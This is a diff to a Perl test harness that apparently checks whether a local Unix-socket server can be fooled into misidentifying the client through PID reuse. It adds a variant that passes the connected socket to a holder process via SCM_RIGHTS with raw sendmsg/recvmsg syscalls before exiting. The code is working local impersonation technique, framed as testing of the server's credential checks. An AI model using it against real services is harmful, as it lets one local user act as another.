@@ -3,8 +3,9 @@
 #   early    connect and exit before the server accepts, which is kept busy meanwhile; another user's process gets the PID
 #   late     connect, exit once accepted; another user's process gets the PID
 #   exec     connect, then become another program
+#   pass     connect, hand the connection to another process over a socket, exit; another user's process gets the PID
 #   genuine  the other user itself connects, for comparison
-# A third process holds the connection of the first three, and sends the request.
+# A third process holds the connection of the first four, and sends the request.
 use strict;
 use warnings;
 use POSIX ();
@@ -12,7 +13,10 @@ use Socket;
 
 my ($path, $tries, @server) = @ARGV;
 my ($ATTACKER, $VICTIM) = (1001, 1002);
-my @KINDS = qw(late early exec genuine);
+my @KINDS = qw(late early exec pass genuine);
+# sendmsg and recvmsg.
+my %CALLS = (x86_64 => [46, 47], aarch64 => [211, 212]);
+my ($SENDMSG, $RECVMSG) = @{ $CALLS{ (POSIX::uname())[4] } // die "no system calls for this machine" };
 $SIG{PIPE} = 'IGNORE';
 
 my $server = start_server();
@@ -66,17 +70,43 @@ sub attempt {
 sub caller_main {
     my ($kind, $go, $go_w, $changed_w) = @_;
     become($ATTACKER);
-    my $socket = dial();
+    socketpair(my $near, my $far, AF_UNIX, SOCK_STREAM, 0) or POSIX::_exit(1);
+    my $socket = $kind eq 'pass' ? undef : dial();
     my $holder = fork() // POSIX::_exit(1);
     if ($holder == 0) {
         close($_) for $go_w, $changed_w;
+        $socket = receive_descriptor($far) if $kind eq 'pass';
         sysread($go, my $byte, 1);
         request($socket);
         POSIX::_exit(0);
     }
+    $socket = dial() if $kind eq 'pass';
     sysread($socket, my $accepted, 1) if $kind ne 'early';
+    send_descriptor($near, fileno($socket)) if $kind eq 'pass';
     if ($kind eq 'exec') { exec('/bin/sleep', '60') }
     POSIX::_exit(0);
+}
+
+# One byte with the descriptor beside it: struct iovec, struct cmsghdr with SCM_RIGHTS, struct msghdr; 64 bits.
+sub send_descriptor {
+    my ($via, $descriptor) = @_;
+    my $byte = 'f';
+    my $vector = pack('P Q', $byte, 1);
+    my $control = pack('Q i i i x4', 20, 1, 1, $descriptor);
+    my $message = pack('Q L x4 P Q P Q i x4', 0, 0, $vector, 1, $control, length($control), 0);
+    syscall($SENDMSG, fileno($via), $message, 0) == 1 or die "sendmsg: $!";
+}
+
+sub receive_descriptor {
+    my ($via) = @_;
+    my $byte = "\0";
+    my $vector = pack('P Q', $byte, 1);
+    my $control = "\0" x 24;
+    my $message = pack('Q L x4 P Q P Q i x4', 0, 0, $vector, 1, $control, length($control), 0);
+    syscall($RECVMSG, fileno($via), $message, 0) == 1 or die "recvmsg: $!";
+    my (undef, undef, undef, $descriptor) = unpack('Q i i i', $control);
+    open(my $socket, '+<&=', $descriptor) or die "descriptor: $!";
+    return $socket;
 }
 
 # Forks until a process of the victim has the PID; 0 would mean that somebody else holds it.
